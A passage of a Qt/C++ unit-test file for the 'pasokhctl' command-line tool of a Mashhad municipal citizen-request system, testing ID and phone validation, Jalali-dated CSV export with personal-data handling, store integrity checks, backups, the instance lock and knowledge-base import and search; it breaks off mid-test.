// SPDX-License-Identifier: GPL-3.0-or-later
// pasokhctl commands: output and exit code of validate/normalize, the command-line dispatch, export (columns,
// escaping, Jalali date, personal data), db check on good, damaged, missing and newer stores, db backup, and
// the instance lock.
#include "app/pasokhctl/commands.h"
#include "models/core/jalali.h"
#include "models/storage/csvfile.h"
#include "models/storage/database.h"
#include "models/storage/datalocation.h"
#include "models/storage/demoseeder.h"
#include "models/storage/instancelock.h"
#include "models/storage/referencedata.h"
#include "tests/support/teststore.h"

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QRegularExpression>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Pasokh;
using Pasokh::Testing::TestStore;

namespace {

/// Runs a command with captured streams.
struct Captured
{
    int code = -1;
    QString out;
    QString err;
};

template <typename F> Captured capture(F &&f)
{
    Captured c;
    QTextStream out(&c.out);
    QTextStream err(&c.err);
    c.code = f(out, err);
    out.flush();
    err.flush();
    return c;
}

Captured runCli(const QStringList &args)
{
    return capture([&](QTextStream &o, QTextStream &e) {
        return Ctl::run(QStringList{QStringLiteral("pasokhctl")} + args, o, e);
    });
}

bool seededOk(const Core::Result<Storage::DemoSeedReport> &r)
{
    if (!r)
        qWarning() << r.error().code << r.error().message;
    return r.ok();
}

/// A small seeded store in `dir`, closed again (so the file is complete without its WAL).
bool makeSeededStore(const QString &dir, qint64 cases)
{
    auto db = Storage::Database::open(Storage::storePath(dir), QStringLiteral("tst-ctl-seed"));
    if (!db)
        return false;
    if (!Storage::ReferenceCatalog::importIfEmpty(db.value()->writer()))
        return false;
    auto catalog = Storage::ReferenceCatalog::load(db.value()->writer());
    if (!catalog)
        return false;
    Storage::DemoSeedOptions o;
    o.cases = cases;
    o.seed = 5;
    o.now = QDateTime(QDate(2026, 6, 1), QTime(0, 0), Qt::UTC);
    return seededOk(Storage::DemoSeeder::seed(*db.value(), catalog.value(), o));
}

} // namespace

class TestCommands : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void validateNationalId_data();
    void validateNationalId();
    void normalizePhone_data();
    void normalizePhone();
    void normalizeText_data();
    void normalizeText();
    void dispatch_data();
    void dispatch();
    void defaultDataDirIsTheConsoles();
    void parseDateArgument_data();
    void parseDateArgument();
    void exportColumnsAndValues();
    void exportPersonalDataOnlyWhenAsked();
    void exportJalaliAndIsoRangesAgree();
    void exportToFile();
    void exportRefusesBadArguments_data();
    void exportRefusesBadArguments();
    void dbCheckGoodStore();
    void dbCheckMissingStore();
    void dbCheckNotADatabase();
    void dbCheckDamagedPages();
    void newerSchemaIsReported();
    void dbBackup();
    void dbRecoverRefusesASoundOrUnreadableStore();
    void seedDemoThroughCli();
    void seedDemoRefusedWhileLocked();
    void helpDocumentsEveryExitCode();
    void kbSearchLimitAndGlobalDataDir();
    void kbSearchWithoutStoreOrArticles();
    void kbImportRefusedWhileLocked();
    void kbImportNotAFolderAndSkippedFiles();
    void syncTakesTheGlobalDataDir();
    void neutraliseFormula_data();
    void neutraliseFormula();
    void exportNeutralisesFormulas();
    void dbBackupNamesTheDestination();
    void dbRecoverFailureGivesAReasonAndLeavesNoFolder();
    void normalizeTextStripsControls();
};

void TestCommands::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
}

void TestCommands::validateNationalId_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<int>("code");
    QTest::addColumn<QString>("out");
    QTest::addColumn<QString>("errContains");
    QTest::newRow("valid") << "0077611616" << 0 << "0077611616\n"
                           << "";
    QTest::newRow("persian digits") << "۰۰۷۷۶۱۱۶۱۶" << 0 << "0077611616\n"
                                    << "";
    QTest::newRow("spaces and dashes") << " 007-761161-6 " << 0 << "0077611616\n"
                                       << "";
    QTest::newRow("eight digits padded") << "77611616" << 0 << "0077611616\n"
                                         << "";
    QTest::newRow("checksum") << "0077611617" << 1 << ""
                              << "(checksum)";
    QTest::newRow("length") << "12345" << 1 << ""
                            << "(length)";
    QTest::newRow("letters") << "00776a1616" << 1 << ""
                             << "(invalid_characters)";
    QTest::newRow("empty") << "" << 1 << ""
                           << "(empty)";
    QTest::newRow("all same: valid with warning") << "1111111111" << 0 << "1111111111\n"
                                                  << "warning:";
}

void TestCommands::validateNationalId()
{
    QFETCH(QString, input);
    QFETCH(int, code);
    QFETCH(QString, out);
    QFETCH(QString, errContains);
    const Captured c =
        capture([&](QTextStream &o, QTextStream &e) { return Ctl::validateNationalId(input, o, e); });
    QCOMPARE(c.code, code);
    QCOMPARE(c.out, out);
    if (errContains.isEmpty())
        QVERIFY2(c.err.isEmpty(), qPrintable(c.err));
    else
        QVERIFY2(c.err.contains(errContains), qPrintable(c.err));
    // The same through the command line.
    const Captured cli = runCli({QStringLiteral("validate"), QStringLiteral("national-id"), input});
    QCOMPARE(cli.code, code);
    QCOMPARE(cli.out, out);
}

void TestCommands::normalizePhone_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<int>("code");
    QTest::addColumn<QString>("out");
    QTest::newRow("national mobile") << "09151234567" << 0 << "+989151234567\n";
    QTest::newRow("spaces") << "0915 123 4567" << 0 << "+989151234567\n";
    QTest::newRow("+98") << "+98 915 123 4567" << 0 << "+989151234567\n";
    QTest::newRow("0098 dashes") << "0098-915-123-4567" << 0 << "+989151234567\n";
    QTest::newRow("persian digits") << "۰۹۱۵۱۲۳۴۵۶۷" << 0 << "+989151234567\n";
    QTest::newRow("mashhad landline") << "051 3800 1234" << 0 << "+985138001234\n";
    QTest::newRow("local 8 digits") << "38001234" << 0 << "+985138001234\n";
    QTest::newRow("letters") << "abc" << 1 << "";
    QTest::newRow("too short") << "0915" << 1 << "";
    QTest::newRow("old mashhad form") << "0511 8001234" << 1 << "";
}

void TestCommands::normalizePhone()
{
    QFETCH(QString, input);
    QFETCH(int, code);
    QFETCH(QString, out);
    const Captured c = runCli({QStringLiteral("normalize"), QStringLiteral("phone"), input});
    QCOMPARE(c.code, code);
    QCOMPARE(c.out, out);
    if (code != 0)
        QVERIFY2(c.err.startsWith(QLatin1String("Cannot normalise the phone number: ")), qPrintable(c.err));
}

void TestCommands::normalizeText_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<QString>("out");
    QTest::newRow("arabic kaf and yeh") << "كتاب علي"
                                        << "کتاب علی\n";
    QTest::newRow("digits and spaces") << "  پلاک   ۱۲  "
                                       << "پلاک 12\n";
    QTest::newRow("zwnj dropped") << "کتاب‌ها"
                                  << "کتابها\n";
    QTest::newRow("latin lowercased") << "ABC"
                                      << "abc\n";
}

void TestCommands::normalizeText()
{
    QFETCH(QString, input);
    QFETCH(QString, out);
    const Captured c = runCli({QStringLiteral("normalize"), QStringLiteral("text"), input});
    QCOMPARE(c.code, 0);
    QCOMPARE(c.out, out);
}

void TestCommands::dispatch_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("code");
    QTest::addColumn<QString>("errContains");
    QTest::newRow("no command") << QStringList{} << 2 << "No command given";
    QTest::newRow("unknown") << QStringList{"frobnicate"} << 2 << "Unknown or incomplete command: frobnicate";
    QTest::newRow("validate without value")
        << QStringList{"validate", "national-id"} << 2 << "Unknown or incomplete";
    QTest::newRow("unknown option") << QStringList{"db", "check", "--bogus"} << 2 << "bogus";
    QTest::newRow("seed-demo without cases") << QStringList{"seed-demo"} << 2 << "--cases N";
    QTest::newRow("seed-demo bad cases") << QStringList{"seed-demo", "--cases", "many"} << 2 << "--cases N";
    QTest::newRow("seed-demo zero") << QStringList{"seed-demo", "--cases", "0"} << 2 << "--cases N";
    QTest::newRow("export without dates") << QStringList{"export", "cases"} << 2 << "--from DATE";
    QTest::newRow("kb without a subcommand") << QStringList{"kb"} << 2 << "kb";
    QTest::newRow("help") << QStringList{"--help"} << 0 << "";
    QTest::newRow("limit outside kb search")
        << QStringList{"db", "check", "--limit", "3"} << 2 << "--limit is only for kb search";
    QTest::newRow("limit on kb import")
        << QStringList{"kb", "import", "/tmp", "--limit", "3"} << 2 << "--limit is only for kb search";
    QTest::newRow("kb search bad limit")
        << QStringList{"kb", "search", "x", "--limit", "0"} << 2 << "1 to 200";
}

void TestCommands::dispatch()
{
    QFETCH(QStringList, args);
    QFETCH(int, code);
    QFETCH(QString, errContains);
    const Captured c = runCli(args);
    QCOMPARE(c.code, code);
    if (code == 0)
        QVERIFY(c.out.contains(QLatin1String("seed-demo --cases N")));
    else
        QVERIFY2(c.err.contains(errContains), qPrintable(c.err));
}

void TestCommands::defaultDataDirIsTheConsoles()
{
    QCoreApplication::setApplicationName(QStringLiteral("pasokhctl"));
    const QString dir = Storage::defaultDataDir();
    QVERIFY2(dir.endsWith(QLatin1String("Mashhad Municipality/Pasokh")), qPrintable(dir));
    QCOMPARE(QCoreApplication::applicationName(), QStringLiteral("pasokhctl")); // restored
    QCOMPARE(Storage::storePath(QStringLiteral("/x")), QStringLiteral("/x/pasokh.sqlite"));
}

void TestCommands::parseDateArgument_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QDate>("date");
    QTest::newRow("jalali") << "1404/01/01" << QDate(2025, 3, 21);
    QTest::newRow("jalali persian digits") << "۱۴۰۴/۰۱/۰۱" << QDate(2025, 3, 21);
    QTest::newRow("jalali dashes") << "1404-1-1" << QDate(2025, 3, 21);
    QTest::newRow("jalali leap day 1403") << "1403/12/30" << QDate(2025, 3, 20);
    QTest::newRow("no 1404/12/30") << "1404/12/30" << QDate();
    QTest::newRow("iso") << "2025-03-21" << QDate(2025, 3, 21);
    QTest::newRow("iso invalid day") << "2025-02-30" << QDate();
    QTest::newRow("garbage") << "yesterday" << QDate();
}

void TestCommands::parseDateArgument()
{
    QFETCH(QString, text);
    QFETCH(QDate, date);
    QCOMPARE(Ctl::parseDateArgument(text), date);
}

namespace {

Core::CaseRecord trickyCase()
{
    Core::CaseRecord c = TestStore::sampleCase();
    c.description = QStringLiteral("زباله، \"سه\" روز\nمانده, لطفاً");
    c.caller.name = QStringLiteral("زهرا کریمی");
    c.caller.phone = QStringLiteral("09357654321");
    c.caller.nationalId = QStringLiteral("0077611616");
    c.location.latitude = 36.3;
    c.location.longitude = 59.6;
    return c;
}

QString today()
{
    return Core::Jalali::formatDateAscii(Core::Jalali::tehranDate(QDateTime::currentDateTimeUtc()));
}

Captured exportToday(const QString &dir, bool personal, const QString &output = QString())
{
    Ctl::ExportArgs a;
    a.dataDir = dir;
    a.from = today();
    a.to = today();
    a.includePersonal = personal;
    a.output = output;
    return capture([&](QTextStream &o, QTextStream &e) { return Ctl::exportCases(a, o, e); });
}

} // namespace

void TestCommands::exportColumnsAndValues()
{
    TestStore store;
    QVERIFY2(store.ok(), qPrintable(store.error()));
    const auto saved = store.cases().registerCase(trickyCase());
    QVERIFY(saved.ok());
    const Captured c = exportToday(store.dir(), false);
    QCOMPARE(c.code, 0);
    QVERIFY2(c.err.isEmpty(), qPrintable(c.err));
    QVERIFY(c.out.endsWith(QLatin1String("\r\n")));
    const auto rows = Storage::Csv::parse(c.out.toUtf8());
    QVERIFY(rows.ok());
    QCOMPARE(rows.value().size(), 2);
    const QStringList header = rows.value().at(0);
    QCOMPARE(header, Ctl::exportColumns(false));
    QCOMPARE(header.mid(0, 16),
             (QStringList{"service_request_id", "status", "status_notes", "service_name", "service_code",
                          "description", "agency_responsible", "service_notice", "requested_datetime",
                          "updated_datetime", "expected_datetime", "address", "zipcode", "lat", "long",
                          "media_url"}));
    QVERIFY(header.contains(QStringLiteral("requested_date_jalali")));
    QVERIFY(!header.contains(QStringLiteral("caller_phone")));
    QMap<QString, QString> row;
    for (int i = 0; i < header.size(); ++i)
        row.insert(header.at(i), rows.value().at(1).value(i));
    const Core::CaseRecord s = saved.value();
    QCOMPARE(row.value("service_request_id"), s.trackingCode);
    QCOMPARE(row.value("status"), QStringLiteral("open"));
    QCOMPARE(row.value("case_status"), QStringLiteral("registered"));
    QCOMPARE(row.value("description"), s.description); // comma, quotes and newline survive the round trip
    QCOMPARE(row.value("service_code"), QStringLiteral("WASTE-COLLECT"));
    QCOMPARE(row.value("service_name"), QStringLiteral("عدم جمع‌آوری زباله"));
    QCOMPARE(row.value("agency_responsible"), QStringLiteral("D07"));
    QCOMPARE(row.value("requested_datetime"), s.requestedAt.toString(Qt::ISODate));
    QVERIFY(row.value("requested_datetime").endsWith(QLatin1Char('Z')));
    QCOMPARE(row.value("expected_datetime"), s.expectedAt.toString(Qt::ISODate));
    QCOMPARE(row.value("lat"), QStringLiteral("36.300000"));
    QCOMPARE(row.value("long"), QStringLiteral("59.600000"));
    QCOMPARE(row.value("district"), QStringLiteral("7"));
    QCOMPARE(row.value("channel"), QStringLiteral("phone"));
    QCOMPARE(row.value("urgency"), QStringLiteral("normal"));
    QCOMPARE(row.value("requested_date_jalali"), today());
    QVERIFY(QRegularExpression(QStringLiteral("^1[34]\\d\\d/\\d\\d/\\d\\d$"))
                .match(row.value("requested_date_jalali"))
                .hasMatch());
}

void TestCommands::exportPersonalDataOnlyWhenAsked()
{
    TestStore store;
    QVERIFY(store.ok());
    QVERIFY(store.cases().registerCase(trickyCase()).ok());
    Core::CaseRecord anonymous = trickyCase();
    anonymous.caller.anonymous = true;
    anonymous.caller.phone = QStringLiteral("09151112233");
    QVERIFY(store.cases().registerCase(anonymous).ok());

    const Captured without = exportToday(store.dir(), false);
    QCOMPARE(without.code, 0);
    for (const char *personal : {"زهرا کریمی", "0077611616", "+989357654321", "9357654321", "+989151112233"})
        QVERIFY2(!without.out.contains(QString::fromUtf8(personal)), personal);

    const Captured with = exportToday(store.dir(), true);
    QCOMPARE(with.code, 0);
    const auto records = Storage::Csv::parseRecords(with.out.toUtf8());
    QVERIFY(records.ok());
    QCOMPARE(records.value().size(), 2);
    QCOMPARE(Storage::Csv::parse(with.out.toUtf8()).value().at(0), Ctl::exportColumns(true));
    const auto &named = records.value().at(0);
    QCOMPARE(named.value("caller_name"), QStringLiteral("زهرا کریمی"));
    QCOMPARE(named.value("caller_phone"), QStringLiteral("+989357654321"));
    QCOMPARE(named.value("caller_national_id"), QStringLiteral("0077611616"));
    const auto &anon = records.value().at(1);
    QCOMPARE(anon.value("caller_name"), QString());
    QCOMPARE(anon.value("caller_national_id"), QString());
    QCOMPARE(anon.value("caller_phone"), QStringLiteral("+989151112233"));
}

void TestCommands::exportJalaliAndIsoRangesAgree()
{
    QTemporaryDir dir;
    QVERIFY(makeSeededStore(dir.path(), 1500));
    auto exportRange = [&](const QString &from, const QString &to) {
        Ctl::ExportArgs a;
        a.dataDir = dir.path();
        a.from = from;
        a.to = to;
        return capture([&](QTextStream &o, QTextStream &e) { return Ctl::exportCases(a, o, e); });
    };
    // Esfand 1403 = 2025-02-19 .. 2025-03-20 (30 days: 1403 is a leap year).
    const Captured jalali = exportRange(QStringLiteral("1403/12/01"), QStringLiteral("1403/12/30"));
    const Captured iso = exportRange(QStringLiteral("2025-02-19"), QStringLiteral("2025-03-20"));
    QCOMPARE(jalali.code, 0);
    QCOMPARE(iso.code, 0);
    QCOMPARE(jalali.out, iso.out);
    const auto records = Storage::Csv::parseRecords(jalali.out.toUtf8());
    QVERIFY(records.ok());
    QVERIFY(records.value().size() > 10);
    QString previous;
    for (const auto &r : records.value()) {
        const QString d = r.value("requested_date_jalali");
        QVERIFY2(d.startsWith(QLatin1String("1403/12/")), qPrintable(d));
        QVERIFY(r.value("requested_datetime") >= previous); // oldest first
        previous = r.value("requested_datetime");
    }
    // An empty range gives the header only.
    const Captured none = exportRange(QStringLiteral("1390/01/01"), QStringLiteral("1390/01/02"));
    QCOMPARE(none.code, 0);
    QCOMPARE(Storage::Csv::parse(none.out.toUtf8()).value().size(), 1);
}

void TestCommands::exportToFile()
{
    TestStore store;
    QVERIFY(store.ok());
    QVERIFY(store.cases().registerCase(trickyCase()).ok());
    const QString file = store.dir() + QStringLiteral("/export.csv");
    const Captured toFile = exportToday(store.dir(), false, file);
    QCOMPARE(toFile.code, 0);
    QVERIFY(toFile.out.isEmpty());
    QVERIFY2(toFile.err.contains(QLatin1String("Exported 1 cases")), qPrintable(toFile.err));
    QFile f(file);
    QVERIFY(f.open(QIODevice::ReadOnly));
    QCOMPARE(QString::fromUtf8(f.readAll()), exportToday(store.dir(), false).out);
    const Captured badPath = exportToday(store.dir(), false, QStringLiteral("/nonexistent-dir/x/e.csv"));
    QCOMPARE(badPath.code, 1);
    QVERIFY(badPath.err.startsWith(QLatin1String("Cannot write")));
}

void TestCommands::exportRefusesBadArguments_data()
{
    QTest::addColumn<QString>("from");
    QTest::addColumn<QString>("to");
    QTest::addColumn<QString>("format");
    QTest::addColumn<int>("code");
    QTest::addColumn<QString>("errContains");
    QTest::newRow("bad from") << "tomorrow"
                              << "1404/01/01"
                              << "csv" << 2 << "--from and --to";
    QTest::newRow("impossible date") << "1404/12/30"
                                     << "1404/12/30"
                                     << "csv" << 2 << "--from and --to";
    QTest::newRow("reversed") << "1404/02/01"
                              << "1404/01/01"
                              << "csv" << 2 << "before --from";
    QTest::newRow("json") << "1404/01/01"
                          << "1404/01/02"
                          << "json" << 2 << "only csv";
}

void TestCommands::exportRefusesBadArguments()
{
    QFETCH(QString, from);
    QFETCH(QString, to);
    QFETCH(QString, format);
    QFETCH(int, code);
    QFETCH(QString, errContains);
    QTemporaryDir dir;
    const Captured c =
        runCli({"export", "cases", "--data-dir", dir.path(), "--from", from, "--to", to, "--format", format});
    QCOMPARE(c.code, code);
    QVERIFY2(c.err.contains(errContains), qPrintable(c.err));
    QVERIFY(c.out.isEmpty());
}

void TestCommands::dbCheckGoodStore()
{
    TestStore store;
    QVERIFY(store.ok());
    QVERIFY(store.cases().registerCase(TestStore::sampleCase()).ok());
    QVERIFY(store.cases().registerCase(trickyCase()).ok());
    QVERIFY(store.exec(QStringLiteral("UPDATE outbox SET state = 'parked' WHERE mutation_id = 1")));
    const Captured c = runCli({"db", "check", "--data-dir", store.dir()});
    QCOMPARE(c.code, 0);
    QVERIFY2(c.err.isEmpty(), qPrintable(c.err));
    // The schema version follows the newest migration in resources/sql (0003_agent.sql added by telephony).
    const QString schema = QStringLiteral("schema version: %1 (this pasokhctl knows %1)\n")
                               .arg(Pasokh::Storage::Database::latestSchemaVersion());
    QVERIFY2(c.out.contains(schema), qPrintable(c.out));
    for (const char *line : {"integrity: ok\n", "cases: 2\n", "calls: 0\n", "case events: 2\n",
                             "callers: 2\n", "outbox pending: 1\n", "outbox parked: 1\n"})
        QVERIFY2(c.out.contains(QLatin1String(line)), line);
}

void TestCommands::dbCheckMissingStore()
{
    QTemporaryDir dir;
    const Captured c = runCli({"db", "check", "--data-dir", dir.path()});
    QCOMPARE(c.code, int(Ctl::ExitNoStore));
    QCOMPARE(c.code, 4);
    QVERIFY2(c.err.startsWith(QLatin1String("No Pasokh store at")), qPrintable(c.err));
    QVERIFY2(c.out.isEmpty(), qPrintable(c.out)); // no "integrity: FAILED" for a store that is not there
    QVERIFY(!QFile::exists(Storage::storePath(dir.path()))); // nothing created
}

void TestCommands::dbCheckNotADatabase()
{
    QTemporaryDir dir;
    QFile f(Storage::storePath(dir.path()));
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(QByteArray(8192, 'x'));
    f.close();
    const Captured c = runCli({"db", "check", "--data-dir", dir.path()});
    QCOMPARE(c.code, 1);
    QVERIFY2(c.err.contains(QLatin1String("damaged or is not a Pasokh database")), qPrintable(c.err));
    QCOMPARE(QFileInfo(f.fileName()).size(), 8192); // not touched
}

void TestCommands::dbCheckDamagedPages()
{
    QTemporaryDir dir;
    QVERIFY(makeSeededStore(dir.path(), 2000));
    const QString path = Storage::storePath(dir.path());
    QVERIFY(!QFile::exists(path + QStringLiteral("-wal")) ||
            QFileInfo(path + QStringLiteral("-wal")).size() == 0);
    // Overwrite the middle pages of the file (b-tree pages of cases, indexes and the text index).
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadWrite));
    const qint64 size = f.size();
    QVERIFY(size > 400 * 1024);
    for (qint64 at = size / 3; at < size * 2 / 3; at += 4096 * 7) {
        f.seek(at + 100);
        f.write(QByteArray(600, '\x5a'));
    }
    f.close();
    const Captured c = runCli({"db", "check", "--data-dir", dir.path()});
    QCOMPARE(c.code, 1);
    QVERIFY2(c.out.contains(QLatin1String("integrity: FAILED")), qPrintable(c.out));
    QVERIFY2(c.err.contains(QLatin1String("Restore the latest backup")), qPrintable(c.err));
}

void TestCommands::newerSchemaIsReported()
{
    QTemporaryDir dir;
    {
        auto db = Storage::Database::open(Storage::storePath(dir.path()), QStringLiteral("tst-ctl-newer"));
        QVERIFY(db.ok());
        QSqlQuery q(db.value()->writer());
        QVERIFY(q.exec(QStringLiteral("PRAGMA user_version = 99")));
    }
    const Captured check = runCli({"db", "check", "--data-dir", dir.path()});
    QCOMPARE(check.code, 0);
    QVERIFY(check.out.contains(QLatin1String("schema version: 99")));
    QVERIFY2(check.err.contains(QLatin1String("newer version of Pasokh")), qPrintable(check.err));
    const Captured exp =
        runCli({"export", "cases", "--data-dir", dir.path(), "--from", "1404/01/01", "--to", "1404/01/02"});
    QCOMPARE(exp.code, 1);
    QVERIFY2(exp.err.contains(QLatin1String("newer version of Pasokh")), qPrintable(exp.err));
    QVERIFY(exp.out.isEmpty());
}

void TestCommands::dbBackup()
{
    TestStore store;
    QVERIFY(store.ok());
    QVERIFY(store.cases().registerCase(TestStore::sampleCase()).ok());
    QTemporaryDir target;
    const QString file = Storage::storePath(target.path());
    const Captured c = runCli({"db", "backup", file, "--data-dir", store.dir()});
    QCOMPARE(c.code, 0);
    QVERIFY2(c.out.startsWith(QLatin1String("Backup written to")), qPrintable(c.out));
    // The copy is a complete store of its own.
    const Captured check = runCli({"db", "check", "--data-dir", target.path()});
    QCOMPARE(check.code, 0);
    QVERIFY(check.out.contains(QLatin1String("cases: 1\n")));
    // Never overwritten.
    const Captured again = runCli({"db", "backup", file, "--data-dir", store.dir()});
    QCOMPARE(again.code, 1);
    QVERIFY(again.err.contains(QLatin1String("already exists")));
}

void TestCommands::dbRecoverRefusesASoundOrUnreadableStore()
{
    // The recovery itself is tested in tests/unit/recovery and tests/integration/syncfaults (T12); here the
    // command's exit codes and messages.
    QTemporaryDir dir;
    QCOMPARE(runCli({"seed-demo", "--cases", "5", "--data-dir", dir.path()}).code, 0);
    const Captured sound = runCli({"db", "recover", "--data-dir", dir.path()});
    QCOMPARE(sound.code, 1);
    QVERIFY2(sound.err.contains(QLatin1String("not_corrupt")), qPrintable(sound.err));
    {
        QFile f(Storage::storePath(dir.path()));
        QVERIFY(f.open(QIODevice::ReadWrite));
        f.write(QByteArray(16, '\x5a')); // header gone: nothing can be read
    }
    const Captured unreadable = runCli({"db", "recover", "--data-dir", dir.path()});
    QCOMPARE(unreadable.code, 1);
    QVERIFY2(unreadable.err.contains(QLatin1String("recover_failed")), qPrintable(unreadable.err));
    QVERIFY(QFile::exists(Storage::storePath(dir.path())));
}

void TestCommands::seedDemoThroughCli()
{
    QTemporaryDir dir;
    const QString data = dir.path() + QStringLiteral("/new/folder");
    const Captured c = runCli({"seed-demo", "--cases", "300", "--seed", "9", "--data-dir", data});
    QCOMPARE(c.code, 0);
    QVERIFY2(c.out.startsWith(QLatin1String("Seeded 300 cases")), qPrintable(c.out));
    QVERIFY(c.err.contains(QLatin1String("seed-demo: 300 / 300 cases")));
    const Captured check = runCli({"db", "check", "--data-dir", data});
    QCOMPARE(check.code, 0);
    QVERIFY(check.out.contains(QLatin1String("cases: 300\n")));
    QVERIFY(check.out.contains(QLatin1String("outbox pending: 0\n")));
    // A second run adds to the store; tracking codes stay unique.
    QCOMPARE(runCli({"seed-demo", "--cases", "200", "--seed", "9", "--data-dir", data}).code, 0);
    QVERIFY(runCli({"db", "check", "--data-dir", data}).out.contains(QLatin1String("cases: 500\n")));
}

void TestCommands::seedDemoRefusedWhileLocked()
{
    QTemporaryDir dir;
    auto lock = Storage::InstanceLock::acquire(dir.path());
    QVERIFY(lock.ok());
    const Captured c = runCli({"seed-demo", "--cases", "10", "--data-dir", dir.path()});
    QCOMPARE(c.code, 1);
    QVERIFY2(c.err.startsWith(QLatin1String("Cannot use")), qPrintable(c.err));
    QVERIFY(!QFile::exists(Storage::storePath(dir.path())));
}

void TestCommands::helpDocumentsEveryExitCode()
{
    const Captured c = runCli({"--help"});
    QCOMPARE(c.code, 0);
    for (const char *line :
         {"  0  done", "  1  invalid value", "  2  bad command line", "  3  kb import finished but skipped",
          "  4  no store in the data folder", "  5  kb search: the knowledge base has no articles",
          "kb search QUERY [--limit N]", "--data-dir DIR, before or after the command", "CSV Injection"})
        QVERIFY2(c.out.contains(QLatin1String(line)), line);
}

namespace {

QString starterArticles()
{
    return qEnvironmentVariable("PASOKH_SOURCE_DIR") + QStringLiteral("/resources/kb");
}

} // namespace

void TestCommands::kbSearchLimitAndGlobalDataDir()
{
    QTemporaryDir dir;
    QVERIFY(QFileInfo(starterArticles()).isDir());
    const Captured imported = runCli({"--data-dir", dir.path(), "kb", "import", starterArticles()});
    QCOMPARE(imported.code, 0);
    QVERIFY2(imported.out.startsWith(QLatin1String("added ")), qPrintable(imported.out));
    // --limit after the query (the usage advertises it), --data-dir before or after the command.
    const QString query = QStringLiteral("زباله");
    for (const QStringList &args :
         {QStringList{"kb", "search", query, "--limit", "3", "--data-dir", dir.path()},
          QStringList{"--data-dir", dir.path(), "kb", "search", query, "--limit", "3"},
          QStringList{"--data-dir=" + dir.path(), "kb", "search", "--limit=3", query}}) {
        const Captured c = runCli(args);
        QCOMPARE(c.code, 0);
        QVERIFY2(c.err.isEmpty(), qPrintable(c.err));
        const QStringList lines = c.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 3);
        for (const QString &line : lines)
            QVERIFY2(line.contains(QLatin1Char('\t')), qPrintable(line));
    }
    const Captured all = runCli({"kb", "search", query, "--data-dir", dir.path()});
    QCOMPARE(all.code, 0);
    QVERIFY(all.out.split(QLatin1Char('\n'), Qt::SkipEmptyParts).size() > 3);
    // A search without hits on a store with articles is still a success, with no output.
    const Captured none = runCli({"kb", "search", "qqqxyzzy", "--data-dir", dir.path()});
    QCOMPARE(none.code, 0);
    QVERIFY(none.out.isEmpty());
}

void TestCommands::kbSearchWithoutStoreOrArticles()
{
    QTemporaryDir dir;
    const Captured noStore = runCli({"kb", "search", "زباله", "--data-dir", dir.path()});
    QCOMPARE(noStore.code, int(Ctl::ExitNoStore));
    QVERIFY2(noStore.err.contains(QLatin1String("No Pasokh store at")), qPrintable(noStore.err));
    QVERIFY2(noStore.err.contains(QLatin1String("pasokhctl kb import DIR")), qPrintable(noStore.err));
    QVERIFY(!QFile::exists(Storage::storePath(dir.path()))); // a search creates nothing

    TestStore store; // a store with cases but no article
    QVERIFY(store.ok());
    const Captured empty = runCli({"kb", "search", "زباله", "--data-dir", store.dir()});
    QCOMPARE(empty.code, int(Ctl::ExitNoArticles));
    QCOMPARE(empty.code, 5);
    QVERIFY(empty.out.isEmpty());
    QCOMPARE(
        empty.err,
        QStringLiteral("The knowledge base has no articles; import them with: pasokhctl kb import DIR\n"));
}

void TestCommands::kbImportRefusedWhileLocked()
{
    QTemporaryDir dir;
    auto lock = Storage::InstanceLock::acquire(dir.path());
    QVERIFY(lock.ok());
    const Captured c = runCli({"kb", "import", starterArticles(), "--data-dir", dir.path()});
    QCOMPARE(c.code, 1);
    QVERIFY2(c.err.startsWith(QLatin1String("Cannot use")), qPrintable(c.err));
    QVERIFY(c.out.isEmpty());
    QVERIFY(!QFile::exists(Storage::storePath(dir.path())));
}

void TestCommands::kbImportNotAFolderAndSkippedFiles()
{
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("passwd"));
    {
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("root:x:0:0\n");
    }
    const Captured notFolder = runCli({"kb", "import", file, "--data-dir", dir.filePath("data")});
    QCOMPARE(notFolder.code, 1);
    QVERIFY2(notFolder.err.contains(QLatin1String("is not a folder")), qPrintable(notFolder.err));
    QVERIFY2(!notFolder.err.contains(QLatin1String("does not exist")), qPrintable(notFolder.err));
    const Captured missing =
        runCli({"kb", "import", dir.filePath("nothing-here"), "--data-dir", dir.filePath("data")});
    QCOMPARE(missing.code, 1);
    QVERIFY2(missing.err.contains(QLatin1String("does not exist")), qPrintable(missing.err));

    // One good article and one broken file: imported with exit 3, the skipped file named.
    const QString articles = dir.filePath(QStringLiteral("articles"));
    QVERIFY(QDir().mkpath(articles));
    QVERIFY(QFile::copy(starterArticles() + QStringLiteral("/10-waste-collection.md"),
                        articles + QStringLiteral("/10-waste-collection.md")));
    {
        QFile f(articles + QStringLiteral("/99-broken.md"));
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("no front matter at all\n");
    }
    const Captured partial = runCli({"kb", "import", articles, "--data-dir", dir.filePath("data")});
    QCOMPARE(partial.code, int(Ctl::ExitPartial));
    QCOMPARE(partial.code, 3);
    QVERIFY2(partial.out.startsWith(QLatin1String("added 1,")), qPrintable(partial.out));
    QVERIFY2(partial.err.contains(QLatin1String("99-broken.md")), qPrintable(partial.err));
}

void TestCommands::syncTakesTheGlobalDataDir()
{
    QTemporaryDir dir;
    const QString missing = dir.filePath(QStringLiteral("no-store"));
    qputenv("PASOKH_HUB_PASSWORD", "secret-password");
    // Before the fix: "Unknown options: hub, user, once, timeout." (exit 2). Now sync runs on that folder and
    // stops at its missing store, before any connection.
    const Captured once = runCli({"--data-dir", missing, "sync", "--hub", "http://127.0.0.1:9", "--user",
                                  "op1", "--once", "--timeout", "1"});
    qunsetenv("PASOKH_HUB_PASSWORD");
    QCOMPARE(once.code, 1);
